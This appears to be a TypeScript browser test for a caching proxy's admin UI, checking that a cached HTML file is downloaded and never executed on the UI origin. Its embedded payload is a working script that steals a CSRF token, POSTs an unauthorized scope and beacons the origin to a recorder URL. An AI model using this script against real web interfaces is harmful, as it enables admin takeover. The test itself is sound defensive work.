/**
 * A signed-in admin in a real browser opens a cached readme.html from an allowed mirror whose
 * script tries to take over the UI (read the CSRF token, create a scope), retitle the page and call
 * home. It must never run on the UI's origin: the file arrives as a download from the proxy port.
 */
import assert from 'node:assert/strict';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { chromiumMissing, launchBrowser, setUpInBrowser } from '../../browser.js';
import { Origin } from '../../support/cache-origin.js';
import { onTeardown, tempDir } from '../../temp-dir.js';
import { spawnDaemon } from '../daemon/spawn-daemon.js';

const SCOPE = 'planted-by-readme';

/** Synchronous XHRs, so everything the script manages is done before the page's load event. */
const payload = (recorder: string): string => `<!doctype html><title>readme</title><script>
(function () {
  document.title = 'script ran';
  try {
    var beacon = new XMLHttpRequest();
    beacon.open('GET', '${recorder}?from=' + encodeURIComponent(location.origin), false);
    beacon.send();
  } catch (e) {}
  var page = new XMLHttpRequest();
  page.open('GET', '/settings/scopes', false);
  page.send();
  var token = /name="_csrf" value="([^"]+)"/.exec(page.responseText)[1];
  var post = new XMLHttpRequest();
  post.open('POST', '/settings/scopes', false);
  post.setRequestHeader('content-type', 'application/x-www-form-urlencoded');
  post.send('_csrf=' + encodeURIComponent(token) + '&name=${SCOPE}&include=127.0.0.2%2F32&exclude=&everyMinutes=1440');
})();
</script>`;

test('a cached HTML file never runs script on the UI origin', {
  skip: chromiumMissing,
  timeout: 120_000,
}, async (t) => {
  const origin = new Origin();
  await origin.start();
  t.after(() => origin.stop());
  origin.put('/debian/readme.html', {
    body: Buffer.from(payload(`${origin.base}/recorder`)),
    contentType: 'text/html; charset=utf-8',
  });
  const dir = await tempDir(t);
  await writeFile(
    join(dir, 'config.json'),
    JSON.stringify({ cache: { upstreams: [`${origin.base}/debian/`] }, discovery: { schedule: false } }),
  );
  const daemon = await spawnDaemon(dir);
  onTeardown(t, () => daemon.stop());
  const proxyPort = Number(daemon.logs.find((l) => l.msg === 'cache proxy listening')?.port);

  const browser = await launchBrowser(t);
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  await setUpInBrowser(page, daemon.url, dir);

  const cachePath = `/cache/127.0.0.1:${origin.port}/debian/readme.html`;
  const shown: string[] = [];
  for (const url of [new URL(cachePath, daemon.url).href, `http://127.0.0.1:${proxyPort}${cachePath}`]) {
    const download = page.waitForEvent('download');
    // A download aborts the navigation; a file rendered as a page lets it finish (after its script).
    const rendered = await page.goto(url).then(
      () => true,
      () => false,
    );
    if (rendered) {
      void download.catch(() => undefined); // none is coming
      shown.push(`${url} was rendered as a page, titled "${await page.title()}"`);
      continue;
    }
    const file = await download;
    assert.equal(new URL(file.url()).port, String(proxyPort), `${url} is served by the proxy port`);
    assert.equal(await file.failure(), null);
  }

  await page.goto(new URL('/settings/scopes', daemon.url).href);
  assert.equal(new URL(page.url()).pathname, '/settings/scopes', 'still signed in');
  assert.ok(!(await page.content()).includes(SCOPE), 'no scope was planted');
  assert.equal(origin.count('/recorder'), 0, 'the script never called home');
  assert.deepEqual(shown, [], 'opened as downloads, not pages');
});
